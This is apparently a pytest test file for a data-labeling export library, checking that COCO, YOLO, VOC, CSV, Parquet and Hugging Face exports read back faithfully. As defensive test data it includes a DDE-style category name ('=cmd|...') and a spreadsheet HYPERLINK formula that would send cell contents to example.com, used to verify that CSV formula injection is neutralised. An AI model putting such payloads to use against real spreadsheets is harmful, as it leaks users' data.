"""Exports read back by the libraries and parsers of their formats: what went in comes out, whatever people called it."""

import csv
import io
import json
import tempfile
import zipfile
from collections.abc import Callable, Iterable
from contextlib import redirect_stdout
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import duckdb
import numpy as np
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pycocotools.coco import COCO

from groundwork.data_locations import S3Uri
from groundwork.exports.file_names import FileNames, common_folder
from groundwork.exports.labeled_objects import KINDS, LabeledObject, Report, labeled_objects
from groundwork.exports.writers import FORMATS, Workplace
from groundwork.task_types import TASK_TYPES

CATEGORIES = ("cat", "dog", "=cmd|'<&\">{{")
NAMES = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=20)
KEYS = st.lists(
    st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="/"), min_size=1, max_size=30).filter(
        lambda s: s not in {".", ".."}
    ),
    min_size=1,
    max_size=3,
).map("/".join)
EDGES = st.tuples(st.integers(0, 90), st.integers(0, 90), st.integers(1, 10), st.integers(1, 10))


def export(
    form: str,
    lines: Iterable[dict[str, Any]],
    read_back: Callable[[Path], Any],
    *,
    categories: tuple[str, ...] = CATEGORIES,
    masks: dict[str, bytes] | None = None,
    is_multi_label: bool = False,
) -> tuple[Any, Report]:
    """What a reader of the format finds in the export of these output lines, and the report."""
    encoded = [json.dumps(line).encode() for line in lines]
    report = Report()
    keys = [uri.key for line in encoded if (uri := S3Uri.parse(json.loads(line).get("source-ref", "")))]
    with tempfile.TemporaryDirectory() as folder:
        place = Workplace(
            Path(folder),
            categories,
            FileNames(common_folder(keys) if keys else ""),
            lambda uri: (masks or {})[str(uri)],
            report,
            is_multi_label=is_multi_label,
        )
        writer = FORMATS[form].writer(place)
        for labeled in labeled_objects(encoded, "kind", categories, report):
            writer.add(labeled)
        return read_back(writer.finish()), report


def meta(kind: str, **more: Any) -> dict[str, Any]:
    return {
        "type": f"groundtruth/{kind}",
        "human-annotated": "yes",
        "creation-date": "2026-01-05T10:00:00.000123",
        "job-name": "labeling-job/x",
        **more,
    }


def boxes(key: str, *drawn: tuple[str, tuple[float, float, float, float]], size: tuple[int, int] = (100, 100)) -> dict[str, Any]:
    """An output line of a bounding box job."""
    names = {name: index for index, name in enumerate(dict.fromkeys(name for name, _ in drawn))}
    annotations = [
        {"class_id": names[name], "left": left, "top": top, "width": width, "height": height} for name, (left, top, width, height) in drawn
    ]
    return {
        "source-ref": f"s3://bucket/{key}",
        "kind": {"image_size": [{"width": size[0], "height": size[1], "depth": 3}], "annotations": annotations},
        "kind-metadata": meta(
            "object-detection",
            objects=[{"confidence": 0.5} for _ in drawn],
            **{"class-map": {str(index): name for name, index in names.items()}},
        ),
    }


def a_class(key: str, name: str, index: int = 0) -> dict[str, Any]:
    metadata = meta("image-classification", confidence=0.9, **{"class-name": name})
    return {"source-ref": f"s3://bucket/{key}", "kind": index, "kind-metadata": metadata}


def archive(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as found:
        return {name: found.read(name).decode() for name in found.namelist()}


def as_json(path: Path) -> Any:
    return json.loads(path.read_text())


def as_lines(path: Path) -> list[Any]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_every_task_type_but_a_custom_one_has_a_kind_and_every_kind_a_format() -> None:
    assert {task_type.metadata_type for task_type in TASK_TYPES.values() if not task_type.is_custom} == set(KINDS)
    assert set(KINDS.values()) == set().union(*(form.kinds for form in FORMATS.values()))


# --- COCO ------------------------------------------------------------------------------------------------------------


@settings(max_examples=40)
@given(st.lists(st.lists(st.tuples(st.sampled_from(CATEGORIES), EDGES), max_size=4), min_size=1, max_size=5))
def test_coco_gives_back_every_box_to_the_libraries_reader(pictures: list[list[tuple[str, tuple[int, int, int, int]]]]) -> None:
    def read(path: Path) -> COCO:
        with redirect_stdout(io.StringIO()):
            return COCO(str(path))

    coco, report = export("coco", [boxes(f"{n}.png", *drawn) for n, drawn in enumerate(pictures)], read)

    names = {entry["id"]: entry["name"] for entry in coco.loadCats(coco.getCatIds())}
    assert list(names.items()) == list(enumerate(CATEGORIES, start=1))
    found = [
        [(names[shape["category_id"]], tuple(shape["bbox"])) for shape in coco.loadAnns(coco.getAnnIds(imgIds=[picture]))]
        for picture in sorted(coco.getImgIds())
    ]
    assert found == pictures
    assert (report.objects, report.shapes) == (len(pictures), sum(map(len, pictures)))


@pytest.mark.filterwarnings("ignore:__array__ implementation:DeprecationWarning")  # pycocotools' own reader
@settings(max_examples=25)
@given(st.lists(st.lists(st.integers(0, 2), min_size=6, max_size=6), min_size=4, max_size=4))
def test_coco_masks_have_every_pixel(rows: list[list[int]]) -> None:
    colors = [(255, 255, 255), (44, 160, 44), (31, 119, 180)]
    classes = np.array(rows)
    content = io.BytesIO()
    Image.fromarray(np.array(colors, dtype=np.uint8)[classes]).save(content, "PNG")
    color_map = {"0": {"class-name": "BACKGROUND", "hex-color": "#ffffff", "confidence": 0.8}}
    for number, color in ((1, "#2CA02C"), (2, "#1f77b4")):
        color_map[str(number)] = {"class-name": CATEGORIES[number - 1], "hex-color": color, "confidence": 0.8}
    line = {
        "source-ref": "s3://bucket/1.jpg",
        "kind": "s3://bucket/masks/1.png",
        "kind-metadata": meta("semantic-segmentation", **{"internal-color-map": color_map}),
    }

    def read(path: Path) -> dict[int, Any]:
        with redirect_stdout(io.StringIO()):
            coco = COCO(str(path))
        return {shape["category_id"]: coco.annToMask(shape) for shape in coco.loadAnns(coco.getAnnIds())}

    found, _ = export("coco", [line], read, masks={"s3://bucket/masks/1.png": content.getvalue()})

    assert set(found) == set(classes.flat) - {0}
    assert all((mask == (classes == category)).all() for category, mask in found.items())


# --- YOLO and Pascal VOC ---------------------------------------------------------------------------------------------


@settings(max_examples=40)
@given(st.lists(st.tuples(st.sampled_from(CATEGORIES), EDGES), max_size=4), st.tuples(st.integers(100, 4000), st.integers(100, 4000)))
def test_yolo_gives_back_every_box(drawn: list[tuple[str, tuple[int, int, int, int]]], size: tuple[int, int]) -> None:
    files, _ = export("yolo", [boxes("p/a.png", *drawn, size=size), boxes("p/empty.png")], archive)

    names = yaml.safe_load(files["data.yaml"])["names"]
    found = []
    for line in files["labels/a.txt"].splitlines():
        number, *parts = line.split(" ")
        x, y, width, height = (float(part) * edge for part, edge in zip(parts, size * 2, strict=True))
        found.append((names[number], (x - width / 2, y - height / 2, width, height)))
    assert [name for name, _ in found] == [name for name, _ in drawn]
    for (_, edges), (_, wanted) in zip(found, drawn, strict=True):
        assert edges == pytest.approx(wanted, abs=0.01)
    # A picture without a box stays in the set, as a negative.
    assert files["labels/empty.txt"] == ""


@settings(max_examples=40)
@given(st.lists(st.tuples(NAMES, EDGES), max_size=4), KEYS)
def test_voc_is_xml_whatever_labels_and_files_are_called(drawn: list[tuple[str, tuple[int, int, int, int]]], key: str) -> None:
    files, report = export("voc", [boxes(key, *drawn)], archive, categories=())

    if report.objects:  # a key that no S3 URI can name is skipped and said so
        (annotation,) = [content for name, content in files.items() if name.startswith("Annotations/")]
        root = ET.fromstring(annotation)  # noqa: S314 - written by us
        bounds = [[float(edge.text or "") for edge in shape.findall("bndbox/*")] for shape in root.findall("object")]
        assert bounds == [[left + 1, top + 1, left + width, top + height] for _, (left, top, width, height) in drawn]
    else:
        assert report.skipped.total() == 1


@settings(max_examples=60)
@given(st.lists(KEYS, min_size=1, max_size=8, unique=True))
def test_file_names_are_safe_and_never_meet(keys: list[str]) -> None:
    names = FileNames("")

    given_names = [names.of(S3Uri("bucket", key), line) for line, key in enumerate(keys)]

    assert len({name.lower() for name in given_names}) == len(keys)
    for name in given_names:
        segments = name.split("/")
        assert not name.startswith("/")
        assert all(segment not in {"", ".", ".."} and len(segment.encode()) <= 255 for segment in segments)
        assert not set(name) & set('\\:*?"<>|')


# --- tables ----------------------------------------------------------------------------------------------------------


@settings(max_examples=30)
@given(st.lists(st.tuples(st.text(st.characters(exclude_categories=["Cs"])), NAMES), min_size=1, max_size=4))
def test_csv_and_parquet_give_back_texts_and_labels_as_they_are(given_texts: list[tuple[str, str]]) -> None:
    lines = [
        {"source": text, "kind": 0, "kind-metadata": meta("text-classification", confidence=0.75, **{"class-name": name})}
        for text, name in given_texts
    ]

    def read_csv(path: Path) -> list[tuple[str, str]]:
        with path.open(newline="", encoding="utf-8") as file:
            return [(row["text"].removeprefix("'"), row["label"].removeprefix("'")) for row in csv.DictReader(file)]

    def read_parquet(path: Path) -> list[tuple[str, str]]:
        with duckdb.connect() as database:
            rows = database.execute("SELECT text, labels[1].label FROM read_parquet($path) ORDER BY line", {"path": str(path)}).fetchall()
        return [(text, label) for text, label in rows]

    from_csv, _ = export("csv", lines, read_csv)
    from_parquet, _ = export("parquet", lines, read_parquet)

    assert from_csv == from_parquet == given_texts


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "'", "＝", "＋", "－", "＠"])
def test_a_spreadsheet_program_sees_no_formula_in_a_csv_file(first: str) -> None:
    formula = f'{first}HYPERLINK("https://example.com/?"&A1,"x")'
    line = {"source": formula, "kind": 0, "kind-metadata": meta("text-classification", confidence=0.75, **{"class-name": formula})}

    rows, _ = export("csv", [line], lambda path: list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline=""))))

    assert [(row["text"], row["label"], row["confidence"]) for row in rows] == [(f"'{formula}", f"'{formula}", "0.75")]


def test_a_table_of_boxes_has_a_row_a_box_and_one_for_a_picture_without() -> None:
    text, _ = export("csv", [boxes("a.png", ("cat", (1, 2, 3, 4)), ("dog", (5, 6, 7, 8))), boxes("b.png")], Path.read_text)

    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(row["source"], row["label"], row["class_id"], row["left"]) for row in rows] == [
        ("s3://bucket/a.png", "cat", "0", "1.0"),
        ("s3://bucket/a.png", "dog", "1", "5.0"),
        ("s3://bucket/b.png", "", "", ""),
    ]


# --- JSON Lines ------------------------------------------------------------------------------------------------------


def test_hugging_face_has_a_form_for_each_kind() -> None:
    multi = {
        "source-ref": "s3://bucket/p/1.jpg",
        "kind": [1, 0],
        "kind-metadata": meta(
            "image-classification-multilabel",
            **{"class-map": {"1": "dog", "0": "cat"}, "confidence-map": {"1": 0.9, "0": 0.4}},
        ),
    }
    entities = {
        "source": "Ana flew to Oslo.",
        "kind": {"annotations": {"entities": [{"label": "City", "startOffset": 12, "endOffset": 16}], "labels": [{"label": "City"}]}},
        "kind-metadata": meta("text-span", entities=[{"confidence": 0.0}]),
    }

    assert export("huggingface", [a_class("p/1.jpg", "cat"), a_class("p/2.jpg", "dog")], as_lines)[0] == [
        {"file_name": "1.jpg", "source": "s3://bucket/p/1.jpg", "label": "cat"},
        {"file_name": "2.jpg", "source": "s3://bucket/p/2.jpg", "label": "dog"},
    ]
    assert export("huggingface", [multi], as_lines, is_multi_label=True)[0][0]["labels"] == ["dog", "cat"]
    assert export("huggingface", [boxes("p/1.jpg", ("cat", (1, 2, 3, 4)))], as_lines)[0][0]["objects"] == {
        "bbox": [[1.0, 2.0, 3.0, 4.0]],
        "categories": ["cat"],
    }
    assert export("huggingface", [entities], as_lines)[0] == [
        {"text": "Ana flew to Oslo.", "entities": [{"start": 12, "end": 16, "label": "City"}]}
    ]


def test_lookout_for_vision_takes_normal_and_anomaly_and_says_what_it_left_out() -> None:
    found, report = export(
        "lookout-for-vision", [a_class("1.jpg", "anomaly"), a_class("2.jpg", "normal", 1), a_class("3.jpg", "cat")], as_lines
    )

    assert [(line["anomaly-label"], line["anomaly-label-metadata"]["class-name"]) for line in found] == [(1, "anomaly"), (0, "normal")]
    assert report.document()["skipped"] == [{"reason": "the label is neither normal nor anomaly", "count": 1, "lines": [2]}]


# --- what is left out ------------------------------------------------------------------------------------------------


def test_everything_that_is_left_out_is_counted_with_its_place() -> None:
    failed = {"source-ref": "s3://bucket/1.jpg", "kind-metadata": {"failure-reason": "expired", "human-annotated": "true"}}
    lines: list[dict[str, Any]] = [
        {"source-ref": "s3://bucket/0.jpg"},
        failed,
        boxes("2.jpg", ("cat", (200, 200, 10, 10)), ("cat", (1, 1, 5, 5))),
        {"source-ref": "s3://bucket/3.jpg", "kind": {"annotations": 5}, "kind-metadata": meta("object-detection")},
        {"source-ref": "s3://bucket/4.jpg", "kind": 1, "kind-metadata": {"type": "groundtruth/custom"}},
    ]

    _, report = export("coco", lines, as_json)

    assert (report.objects, report.shapes) == (1, 1)
    assert {entry["reason"]: entry["lines"] for entry in report.document()["skipped"]} == {
        "not labeled": [0],
        "could not be labeled": [1],
        "a box has no area inside the picture": [2],
        "the label is not of the form that its type has": [3],
        "labels of the type groundtruth/custom have no export": [4],
    }


@given(
    st.lists(st.binary(max_size=60) | st.from_regex(rb'\{"kind": ?.{0,20}, ?"kind-metadata": ?\{.{0,30}\}\}', fullmatch=True), max_size=5)
)
def test_no_line_crashes_an_export(lines: list[bytes]) -> None:
    report = Report()

    found: list[LabeledObject] = list(labeled_objects(lines, "kind", CATEGORIES, report))

    assert len(found) + report.skipped.total() >= len(lines)


def test_a_boxs_edges_are_cut_at_the_pictures() -> None:
    coco, _ = export("coco", [boxes("1.jpg", ("cat", (-5, 90, 20, 20)))], as_json)

    assert coco["annotations"][0]["bbox"] == [0.0, 90.0, 15.0, 10.0]
